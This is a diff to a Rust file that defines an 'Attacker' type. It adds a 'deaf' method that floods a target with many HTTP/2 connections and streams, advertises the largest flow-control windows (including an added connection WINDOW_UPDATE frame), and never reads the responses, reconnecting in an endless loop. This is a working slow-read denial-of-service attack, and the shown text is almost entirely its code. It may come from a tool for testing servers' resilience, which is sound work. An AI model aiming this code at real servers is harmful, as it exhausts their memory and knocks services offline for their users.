@@ -11,6 +11,8 @@ use tokio::time::{sleep, timeout};
 const PAUSE: Duration = Duration::from_millis(200);
 /// Number of bytes that a server may send on each stream before the client opens its window further (RFC 9113 §6.9.2).
 const DEFAULT_WINDOW: u32 = 65_535;
+/// Largest window (RFC 9113 §6.9.1).
+const MAX_WINDOW: u32 = (1 << 31) - 1;
 
 /// Source and target of an attack.
 #[derive(Clone, Copy, Debug)]
@@ -53,6 +55,22 @@ impl Attacker {
         self.repeat(connections, Duration::from_secs(4), || requests.clone()).await;
     }
 
+    /// Requests `path` on many HTTP/2 connections with `streams` streams each, with the largest windows, and reads nothing
+    /// from its sockets.
+    pub async fn deaf(self, connections: usize, streams: usize, path: &str) {
+        let requests = http2(streams, MAX_WINDOW, path);
+        join_all((0..connections).map(async |number| {
+            loop {
+                if let Ok(mut stream) = self.connect(number).await {
+                    stream.write_all(&requests).await.ok();
+                    sleep(Duration::from_secs(4)).await;
+                }
+                sleep(PAUSE).await;
+            }
+        }))
+        .await;
+    }
+
     /// Repeatedly opens streams of the feed on many HTTP/2 connections.
     pub async fn streams(self, connections: usize, path: &str) {
         let requests = http2(100, DEFAULT_WINDOW, path);
@@ -88,11 +106,15 @@ async fn discard(stream: &mut TcpStream) {
     while stream.read(&mut buffer).await.is_ok_and(|bytes| bytes > 0) {}
 }
 
-/// Returns the bytes of an HTTP/2 client that requests `path` on each of its streams.
+/// Returns the bytes of an HTTP/2 client that requests `path` on each of its streams, with windows of this size.
 fn http2(streams: usize, window: u32, path: &str) -> Vec<u8> {
     let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
     // This sets SETTINGS_INITIAL_WINDOW_SIZE.
     frame(&mut bytes, 4, 0, 0, &[&[0, 4][..], &window.to_be_bytes()].concat());
+    if window > DEFAULT_WINDOW {
+        // This is a WINDOW_UPDATE of the connection.
+        frame(&mut bytes, 8, 0, 0, &(window - DEFAULT_WINDOW).to_be_bytes());
+    }
     // `:method: GET` and `:scheme: http` are in the static table. The literals after them have names of that table (RFC
     // 7541).
     let mut fields = vec![0x82, 0x86];
